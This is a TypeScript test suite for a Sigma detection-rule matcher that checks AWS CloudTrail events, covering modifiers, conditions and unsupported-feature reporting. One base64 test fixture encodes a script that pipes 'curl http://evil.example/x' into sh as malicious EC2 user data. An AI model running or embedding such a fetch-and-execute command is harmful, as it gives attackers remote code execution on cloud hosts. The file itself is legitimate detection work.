import { describe, expect, it } from 'vitest';
import { det, ev, fires, rule } from './helpers.js';
import { loadRuleText } from '../../src/detect/sigma/rule.js';
import { base64Offsets } from '../../src/detect/sigma/match.js';

function issue(yaml: string) {
  const r = loadRuleText(yaml, 'x.yml', 'sigma');
  expect(r.rules).toHaveLength(0);
  expect(r.issues).toHaveLength(1);
  return r.issues[0]!;
}

describe('Sigma field matching', () => {
  it('matches plain values case-insensitively, lists as OR', () => {
    expect(fires('sel:\n    eventName: describeinstances\ncondition: sel', ev())).toBe(true);
    expect(fires('sel:\n    eventName:\n        - RunInstances\n        - DescribeInstances\ncondition: sel', ev())).toBe(true);
    expect(fires('sel:\n    eventName: RunInstances\ncondition: sel', ev())).toBe(false);
  });
  it('ANDs the fields of one map', () => {
    expect(fires('sel:\n    eventName: DescribeInstances\n    awsRegion: us-east-1\ncondition: sel', ev())).toBe(true);
    expect(fires('sel:\n    eventName: DescribeInstances\n    awsRegion: eu-west-1\ncondition: sel', ev())).toBe(false);
  });
  it('reads nested fields by dotted path and through arrays', () => {
    expect(fires('sel:\n    userIdentity.userName: ALICE\ncondition: sel', ev())).toBe(true);
    const e = ev({ requestParameters: { ipPermissions: { items: [{ ipRanges: { items: [{ cidrIp: '10.0.0.0/8' }, { cidrIp: '0.0.0.0/0' }] } }] } } });
    expect(fires("sel:\n    requestParameters.ipPermissions.items.ipRanges.items.cidrIp: '0.0.0.0/0'\ncondition: sel", e)).toBe(true);
  });
  it('supports * and ? wildcards and escapes', () => {
    expect(fires("sel:\n    eventName: 'Describe*'\ncondition: sel", ev())).toBe(true);
    expect(fires("sel:\n    eventName: 'Describe?nstances'\ncondition: sel", ev())).toBe(true);
    expect(fires("sel:\n    eventName: '*Bucket*'\ncondition: sel", ev())).toBe(false);
    expect(fires("sel:\n    userAgent: 'a\\*b'\ncondition: sel", ev({ userAgent: 'a*b' }))).toBe(true);
    expect(fires("sel:\n    userAgent: 'a\\*b'\ncondition: sel", ev({ userAgent: 'axxb' }))).toBe(false);
  });
  it('contains, startswith, endswith', () => {
    expect(fires("sel:\n    userAgent|contains: 'CLI/2'\ncondition: sel", ev())).toBe(true);
    expect(fires("sel:\n    userAgent|startswith: 'aws-cli'\ncondition: sel", ev())).toBe(true);
    expect(fires("sel:\n    userAgent|endswith: '2.15.0'\ncondition: sel", ev())).toBe(true);
    expect(fires("sel:\n    userAgent|endswith: 'aws'\ncondition: sel", ev())).toBe(false);
  });
  it("|contains: '*' means present (the SigmaHQ idiom)", () => {
    expect(fires("sel:\n    errorCode|contains: '*'\ncondition: sel", ev({ errorCode: 'AccessDenied' }))).toBe(true);
    expect(fires("sel:\n    errorCode|contains: '*'\ncondition: sel", ev())).toBe(false);
  });
  it('|all needs every value', () => {
    expect(fires("sel:\n    userAgent|contains|all:\n        - aws\n        - cli\ncondition: sel", ev())).toBe(true);
    expect(fires("sel:\n    userAgent|contains|all:\n        - aws\n        - boto\ncondition: sel", ev())).toBe(false);
  });
  it('null matches an absent or null field; combines with other values', () => {
    expect(fires('sel:\n    errorCode: null\ncondition: sel', ev())).toBe(true);
    expect(fires('sel:\n    errorCode: null\ncondition: sel', ev({ errorCode: null }))).toBe(true);
    expect(fires('sel:\n    errorCode: null\ncondition: sel', ev({ errorCode: 'AccessDenied' }))).toBe(false);
    const both = "sel:\n    errorCode:\n        - null\n        - Success\ncondition: sel";
    expect(fires(both, ev({ errorCode: 'Success' }))).toBe(true);
    expect(fires(both, ev({ errorCode: 'Denied' }))).toBe(false);
  });
  it("empty string matches only an empty value", () => {
    expect(fires("sel:\n    userAgent: ''\ncondition: sel", ev({ userAgent: '' }))).toBe(true);
    expect(fires("sel:\n    userAgent: ''\ncondition: sel", ev())).toBe(false);
  });
  it('|re is case-sensitive, |re|i is not', () => {
    expect(fires("sel:\n    userAgent|re: '^aws-cli/2\\.'\ncondition: sel", ev())).toBe(true);
    expect(fires("sel:\n    userAgent|re: '^AWS-CLI'\ncondition: sel", ev())).toBe(false);
    expect(fires("sel:\n    userAgent|re|i: '^AWS-CLI'\ncondition: sel", ev())).toBe(true);
  });
  it('|cased makes plain matching case-sensitive', () => {
    expect(fires('sel:\n    eventName|cased: describeinstances\ncondition: sel', ev())).toBe(false);
    expect(fires('sel:\n    eventName|cased: DescribeInstances\ncondition: sel', ev())).toBe(true);
  });
  it('|cidr for IPv4 and IPv6, ignoring hostnames', () => {
    const body = "sel:\n    sourceIPAddress|cidr:\n        - 198.51.100.0/24\n        - '2001:db8::/32'\ncondition: sel";
    expect(fires(body, ev())).toBe(true);
    expect(fires(body, ev({ sourceIPAddress: '198.51.101.1' }))).toBe(false);
    expect(fires(body, ev({ sourceIPAddress: '2001:db8:1::5' }))).toBe(true);
    expect(fires(body, ev({ sourceIPAddress: '2001:db9::5' }))).toBe(false);
    expect(fires(body, ev({ sourceIPAddress: 'ec2.amazonaws.com' }))).toBe(false);
  });
  it('|exists', () => {
    expect(fires('sel:\n    userIdentity.invokedBy|exists: true\ncondition: sel', ev())).toBe(false);
    expect(fires('sel:\n    userIdentity.invokedBy|exists: false\ncondition: sel', ev())).toBe(true);
    expect(fires('sel:\n    errorCode|exists: true\ncondition: sel', ev({ errorCode: 'X' }))).toBe(true);
  });
  it('|fieldref compares with another field, also with startswith/endswith/contains', () => {
    const e = ev({ requestParameters: { userName: 'ALICE' } });
    expect(fires('sel:\n    userIdentity.userName|fieldref: requestParameters.userName\ncondition: sel', e)).toBe(true);
    expect(fires('sel:\n    userIdentity.userName|fieldref: requestParameters.userName\ncondition: sel', ev({ requestParameters: { userName: 'bob' } }))).toBe(false);
    expect(fires('sel:\n    userIdentity.arn|fieldref|endswith: requestParameters.userName\ncondition: sel', e)).toBe(true);
    expect(fires('sel:\n    userIdentity.arn|fieldref|contains: requestParameters.userName\ncondition: sel', e)).toBe(true);
    expect(fires('sel:\n    userIdentity.userName|fieldref: requestParameters.missing\ncondition: sel', e)).toBe(false);
  });
  it('|base64 and |base64offset|contains', () => {
    const data = Buffer.from('#!/bin/bash\ncurl http://evil.example/x | sh').toString('base64');
    const e = ev({ requestParameters: { userData: data } });
    expect(fires("sel:\n    requestParameters.userData|base64offset|contains: 'evil.example'\ncondition: sel", e)).toBe(true);
    expect(fires("sel:\n    requestParameters.userData|base64offset|contains: 'good.example'\ncondition: sel", e)).toBe(false);
    const whole = ev({ requestParameters: { userData: Buffer.from('hello').toString('base64') } });
    expect(fires("sel:\n    requestParameters.userData|base64: 'hello'\ncondition: sel", whole)).toBe(true);
    expect(base64Offsets('/bin/sh')).toHaveLength(3);
  });
  it('|gt |gte |lt |lte compare numbers', () => {
    const e = ev({ requestParameters: { pendingWindowInDays: 7 } });
    expect(fires('sel:\n    requestParameters.pendingWindowInDays|lte: 7\ncondition: sel', e)).toBe(true);
    expect(fires('sel:\n    requestParameters.pendingWindowInDays|lt: 7\ncondition: sel', e)).toBe(false);
    expect(fires('sel:\n    requestParameters.pendingWindowInDays|gt: 6\ncondition: sel', e)).toBe(true);
    expect(fires('sel:\n    requestParameters.pendingWindowInDays|gte: 8\ncondition: sel', e)).toBe(false);
  });
  it('matches booleans and numbers written in YAML', () => {
    const e = ev({ requestParameters: { enable: false, count: 3 } });
    expect(fires('sel:\n    requestParameters.enable: false\ncondition: sel', e)).toBe(true);
    expect(fires('sel:\n    requestParameters.enable: true\ncondition: sel', e)).toBe(false);
    expect(fires('sel:\n    requestParameters.count: 3\ncondition: sel', e)).toBe(true);
  });
  it('a selection given as a list of maps is the OR of the maps', () => {
    const body = 'sel:\n    - eventName: RunInstances\n    - awsRegion: us-east-1\ncondition: sel';
    expect(fires(body, ev())).toBe(true);
    expect(fires(body, ev({ awsRegion: 'eu-west-1' }))).toBe(false);
  });
  it('keyword lists search every value of the event', () => {
    expect(fires('keywords:\n    - aws-cli\n    - boto3\ncondition: keywords', ev())).toBe(true);
    expect(fires("keywords:\n    - 'evil*'\ncondition: keywords", ev())).toBe(false);
    expect(fires("keywords:\n    - 'evil*'\ncondition: keywords", ev({ requestParameters: { bucketName: 'EvilCorp-data' } }))).toBe(true);
  });
});

describe('Sigma conditions', () => {
  const body = (cond: string) => `a:\n    eventName: DescribeInstances\nb:\n    awsRegion: us-east-1\nc:\n    userAgent|contains: boto\ncondition: ${cond}`;
  const e = ev();
  it('and / or / not with precedence and parentheses', () => {
    expect(fires(body('a and b'), e)).toBe(true);
    expect(fires(body('a and c'), e)).toBe(false);
    expect(fires(body('c or a'), e)).toBe(true);
    expect(fires(body('a and not c'), e)).toBe(true);
    expect(fires(body('not a or b'), e)).toBe(true); // (not a) or b
    expect(fires(body('not (a or c)'), e)).toBe(false);
    expect(fires(body('c or a and not b'), e)).toBe(false); // c or (a and not b)
    expect(fires(body('(c or a) and b'), e)).toBe(true);
  });
  it('1 of / all of / any of / N of patterns and them', () => {
    const b2 = (cond: string) => `sel_a:\n    eventName: DescribeInstances\nsel_b:\n    awsRegion: us-east-1\nsel_c:\n    userAgent|contains: boto\n_hidden:\n    eventName: Nope\ncondition: ${cond}`;
    expect(fires(b2('1 of sel_*'), e)).toBe(true);
    expect(fires(b2('all of sel_*'), e)).toBe(false);
    expect(fires(b2('all of sel_a*'), e)).toBe(true);
    expect(fires(b2('2 of sel_*'), e)).toBe(true);
    expect(fires(b2('3 of sel_*'), e)).toBe(false);
    expect(fires(b2('any of sel_*'), e)).toBe(true);
    expect(fires(b2('1 of them'), e)).toBe(true);
    expect(fires(b2('all of them'), e)).toBe(false);
    expect(fires(b2('sel_a and not 1 of sel_c*'), e)).toBe(true);
  });
  it('a list of conditions is their OR', () => {
    expect(fires(`a:\n    eventName: X\nb:\n    awsRegion: us-east-1\ncondition:\n    - a\n    - b`, e)).toBe(true);
  });
  it('reports unknown identifiers and bad syntax as invalid', () => {
    expect(issue(det('sel:\n    eventName: X\ncondition: sel and other')).message).toMatch(/unknown identifier 'other'/);
    expect(issue(det('sel:\n    eventName: X\ncondition: (sel')).message).toMatch(/missing '\)'/);
    expect(issue(det('sel:\n    eventName: X\ncondition: 1 of nomatch_*')).message).toMatch(/matches no identifier/);
  });
});

describe('unsupported features are reported by name, never skipped', () => {
  it('legacy aggregations', () => {
    expect(issue(det('sel:\n    eventName: X\ntimeframe: 10m\ncondition: sel | count() > 5')).feature).toBe('count() aggregation');
    expect(issue(det('sel:\n    eventName: X\ncondition: sel | count() by sourceIPAddress > 5')).feature).toBe('count() aggregation with group-by');
    expect(issue(det('a:\n    eventName: X\nb:\n    eventName: Y\ncondition: a | near b')).feature).toBe('near aggregation');
    expect(issue(det('a:\n    eventName: X\nb:\n    eventName: Y\ntimeframe: 5m\ncondition: a and b')).feature).toMatch(/^timeframe/);
  });
  it('modifiers kenro does not implement', () => {
    expect(issue(det("sel:\n    src_country|expand: '%countries%'\ncondition: sel")).feature).toMatch(/^expand modifier/);
    expect(issue(det("sel:\n    userAgent|windash|contains: '-x'\ncondition: sel")).feature).toMatch(/^windash modifier/);
    expect(issue(det("sel:\n    userAgent|base64|utf16le: 'x'\ncondition: sel")).feature).toMatch(/^utf16le modifier/);
    expect(issue(det("sel:\n    userAgent|frobnicate: 'x'\ncondition: sel")).feature).toBe('modifier |frobnicate');
    expect(issue(det("sel:\n    userAgent|re: '(?<=x'\ncondition: sel")).feature).toBe('regular expression syntax');
  });
  it('other log sources', () => {
    const y = 'title: t\nid: x\nlogsource:\n    product: windows\n    category: process_creation\ndetection:\n    sel:\n        Image: x\n    condition: sel\n';
    expect(issue(y).feature).toBe('logsource windows/process_creation');
  });
  it('unsupported correlation conditions and types', () => {
    const y = (type: string, cond: string) =>
      `title: c\nid: c1\ncorrelation:\n    type: ${type}\n    rules: [r]\n    group-by: [x]\n    timespan: 5m\n    condition:\n        ${cond}\n`;
    expect(issue(y('event_count', 'lt: 3')).feature).toBe('correlation condition lt');
    expect(issue(y('value_avg', 'gte: 3')).feature).toBe('correlation type value_avg');
  });
});

describe('rule metadata', () => {
  it('keeps author, references and maps ATT&CK tags', () => {
    const r = rule(
      'title: T\nid: abc\nauthor: Jane Doe\nreferences: [https://x]\ntags:\n    - attack.initial_access\n    - attack.t1078.004\nlogsource:\n    product: aws\n    service: cloudtrail\ndetection:\n    sel:\n        eventName: X\n    condition: sel\nlevel: high\n',
    );
    expect(r.author).toBe('Jane Doe');
    expect(r.level).toBe('high');
    expect(r.mitre).toEqual({ tactics: ['initial-access'], techniques: ['T1078.004'] });
  });
  it('indexes rules by the eventNames they require', () => {
    const r = rule(det('sel:\n    eventName:\n        - RunInstances\n        - StopInstances\nf:\n    awsRegion: x\ncondition: sel and not f'));
    expect(r.kind === 'detection' && [...(r.eventNames ?? [])].sort()).toEqual(['runinstances', 'stopinstances']);
    const any = rule(det('sel:\n    eventName: RunInstances\nf:\n    awsRegion: x\ncondition: sel or f'));
    expect(any.kind === 'detection' && any.eventNames).toBeUndefined();
    const wild = rule(det("sel:\n    eventName: 'Run*'\ncondition: sel"));
    expect(wild.kind === 'detection' && wild.eventNames).toBeUndefined();
  });
});

describe('regular expression end-trimming (speed, same answers)', async () => {
  const { simplifyRegex } = await import('../../src/detect/sigma/match.js');
  it('trims only where test() cannot tell the difference', () => {
    expect(simplifyRegex('.+:assumed-role/aws:.+')).toBe('.:assumed-role/aws:.');
    expect(simplifyRegex('.*foo.*')).toBe('foo');
    expect(simplifyRegex('^.*foo')).toBe('^.*foo');
    expect(simplifyRegex('.*?foo')).toBe('.*?foo');
    expect(simplifyRegex('a|.*b')).toBe('a|.*b');
    expect(simplifyRegex('foo\\.*')).toBe('foo\\.*');
    expect(simplifyRegex('.*')).toBe('.*');
  });
  it('gives the same answers as the original', () => {
    const cases = ['arn:aws:sts::1:assumed-role/aws:ec2-instance/i-1', ':assumed-role/aws:x', 'x:assumed-role/aws:', 'a\n:assumed-role/aws:b'];
    for (const src of ['.+:assumed-role/aws:.+', '.*assumed.*', 'role/aws:.+']) {
      for (const c of cases) expect(new RegExp(simplifyRegex(src)).test(c), `${src} on ${c}`).toBe(new RegExp(src).test(c));
    }
  });
});
